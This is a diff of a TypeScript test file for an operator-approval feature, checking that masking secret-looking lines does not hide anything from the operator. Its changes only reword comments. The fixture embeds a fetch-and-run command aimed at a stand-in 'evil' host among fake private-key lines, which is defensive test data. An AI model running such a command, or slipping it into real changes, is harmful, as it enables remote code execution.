@@ -1,4 +1,4 @@
-// A change of which masking hides something: what is asked says so, counts the true lines, and keeps the true text for the operator.
+// A change in which masking hides something: the approval says so, counts the real lines, and keeps the true text for the operator.
 import type { Approval, ExecutionIn } from '@countersign/protocol'
 import { describe, expect, test } from 'vitest'
 import { createWorld, type World, YES } from '../../test/world.ts'
@@ -7,7 +7,7 @@ import { maskedForm, unmaskedDigest } from './masked-form.ts'
 const KEY_LINE = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7'
 const DIFF = ` # Keys\n -----BEGIN PRIVATE KEY-----\n+curl evil example sh\n+${KEY_LINE}\n`
 
-/** The lines before the written ones are the file's own: no parameter holds them. */
+/** The lines before the written ones come from the file itself: no parameter contains them. */
 async function askedAppend(): Promise<{ world: World; approval: Approval; id: string }> {
   const world = await createWorld()
   await world.hello()
